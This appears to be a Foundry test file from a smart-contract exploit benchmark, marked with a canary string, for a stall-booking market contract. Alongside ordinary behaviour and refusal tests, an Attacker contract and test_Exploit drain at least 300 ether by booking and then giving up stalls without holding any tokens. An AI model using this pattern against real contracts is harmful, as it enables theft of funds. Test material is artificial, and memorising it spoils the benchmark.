// SPDX-License-Identifier: MIT
pragma solidity 0.4.26;

import "./FoundryLaneStalls.sol";

// assay-canary-2f0ce5bf-4c69-4bb5-817d-9929b76501bd

interface Vm {
    function prank(address who) external;
    function warp(uint256 time) external;
    function expectRevert(bytes reason) external;
}

// Reverts when the balance or the allowance is too low.
contract Token {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 value) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += value;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        if (asleep) return false;
        move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (asleep) return false;
        if (allowance[from][msg.sender] < value || balanceOf[from] < value) return false;
        allowance[from][msg.sender] -= value;
        move(from, to, value);
        return true;
    }

    function move(address from, address to, uint256 value) private {
        require(balanceOf[from] >= value, "balance");
        balanceOf[from] -= value;
        balanceOf[to] += value;
    }
}

contract Trader {
    Token internal coin;
    FoundryLaneStalls internal market;

    constructor(Token _coin, FoundryLaneStalls _market) public {
        coin = _coin;
        market = _market;
        coin.approve(market, uint256(-1));
    }

    function book(uint256 stall, uint256 week) public {
        market.book(stall, week);
    }

    function giveUp(uint256 stall, uint256 week) public {
        market.giveUp(stall, week);
    }
}

// Has no token at all, only an allowance for them.
contract Attacker is Trader {
    constructor(Token _coin, FoundryLaneStalls _market) Trader(_coin, _market) public {}

    function run() external {
        uint256 week = market.weekNow() + 5;
        uint256 stall;
        for (stall = 0; stall < 3; stall++) book(stall, week);
        for (stall = 0; stall < 3; stall++) giveUp(stall, week);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    Token public token;
    FoundryLaneStalls internal market;
    Trader internal ada;
    Trader internal ben;
    Attacker internal crook;

    function setUp() public {
        vm.warp(1700000000);
        token = new Token();
        market = new FoundryLaneStalls(Erc20(token), 40 ether);
        market.addStall(60 ether);
        market.addStall(60 ether);
        market.addStall(80 ether);
        ada = new Trader(token, market);
        ben = new Trader(token, market);
        crook = new Attacker(token, market);
        token.mint(ada, 500 ether);
        token.mint(ben, 500 ether);
        ada.book(0, market.weekNow() + 1);
        ada.book(0, market.weekNow() + 2);
        ben.book(1, market.weekNow() + 2);
        ben.book(2, market.weekNow() + 3);
    }

    function test_Regular() public {
        require(token.balanceOf(market) == 420 ether, "rents and bonds paid in");
        uint256 week = market.weekNow();
        require(!address(ben).call(abi.encodeWithSelector(ben.book.selector, 0, week + 1)), "booked twice");
        require(!address(ben).call(abi.encodeWithSelector(ben.giveUp.selector, 0, week + 1)), "not his");
        ben.giveUp(2, week + 3);
        require(token.balanceOf(ben) == 400 ether, "paid back in full");
        market.changeStall(0, 90 ether, true);

        vm.warp((week + 2) * 1 weeks - 1 days);
        require(!address(ben).call(abi.encodeWithSelector(ben.giveUp.selector, 1, week + 2)), "too late");
        require(!address(market).call(abi.encodeWithSelector(market.clear.selector, 0, week + 2)), "not over");
        vm.warp((week + 2) * 1 weeks);
        market.clear(0, week + 1);
        require(token.balanceOf(ada) == 340 ether, "bond back");
        market.takeEarned();
        require(token.balanceOf(this) == 60 ether && market.earned() == 0, "rent of that time earned");
        require(token.balanceOf(market) == 200 ether, "two bookings left");

        week = market.weekNow() + 3;
        ada.book(1, week);
        vm.prank(ada);
        market.handOn(1, week, ben);
        ben.giveUp(1, week);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Stalls and takings are the warden's, bookings their traders'.
    function test_RefusesStrangers() public {
        uint256 week = market.weekNow();
        refuses(ada, "not the warden");
        market.addStall(1);
        refuses(ada, "not the warden");
        market.changeStall(0, 1, true);
        refuses(ada, "not the warden");
        market.takeEarned();
        refuses(ben, "not your booking");
        market.handOn(0, week + 1, ben);
        refuses(ben, "not your booking");
        market.giveUp(0, week + 2);
        refuses(ada, "trader needed");
        market.handOn(0, week + 1, address(0));
    }

    /// Rents, stalls and weeks that are none, and what is not approved.
    function test_RefusesBookings() public {
        uint256 week = market.weekNow();
        vm.expectRevert("rent needed");
        market.addStall(0);
        vm.expectRevert("rent needed");
        market.changeStall(0, 0, true);
        refuses(ada, "week out of range");
        market.book(0, week);
        refuses(ada, "week out of range");
        market.book(0, week + 13);
        vm.expectRevert("allowance too low");
        market.book(0, week + 5);
        vm.expectRevert("not booked");
        market.clear(0, week - 1);
        market.changeStall(0, 1, false);
        refuses(ada, "stall closed");
        market.book(0, week + 5);
    }

    /// A token that says no stops what is paid out.
    function test_RefusesFailedTransfers() public {
        uint256 week = market.weekNow();
        token.sleep(true);
        refuses(ben, "payment failed");
        market.giveUp(2, week + 3);
        vm.expectRevert("payment failed");
        market.takeEarned();
        vm.warp((week + 2) * 1 weeks);
        vm.expectRevert("payment failed");
        market.clear(0, week + 1);
    }

    function exploit() public {
        crook.run();
    }

    function test_Exploit() public {
        uint256 before = token.balanceOf(crook);
        exploit();
        require(token.balanceOf(crook) - before >= 300 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(market);
    }

    function attacker() public view returns (address) {
        return address(crook);
    }
}
